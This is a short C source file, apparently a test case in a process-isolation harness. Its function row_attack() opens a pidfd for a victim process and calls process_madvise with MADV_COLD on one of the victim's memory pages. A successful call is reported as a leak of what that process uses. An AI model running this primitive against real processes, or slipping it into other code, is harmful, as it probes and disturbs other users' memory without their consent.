// SPDX-License-Identifier: Apache-2.0
// Advise on its pages, which shows what it uses.
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "row.h"

enum row_result row_attack(const struct row_victim *victim)
{
    struct iovec area = {(void *)victim->address, 4096};
    int pidfd = (int)syscall(SYS_pidfd_open, victim->pid, 0);
    return syscall(SYS_process_madvise, pidfd, &area, 1L, MADV_COLD, 0L) < 0
               ? row_from_errno("process_madvise")
               : ROW_LEAKED;
}
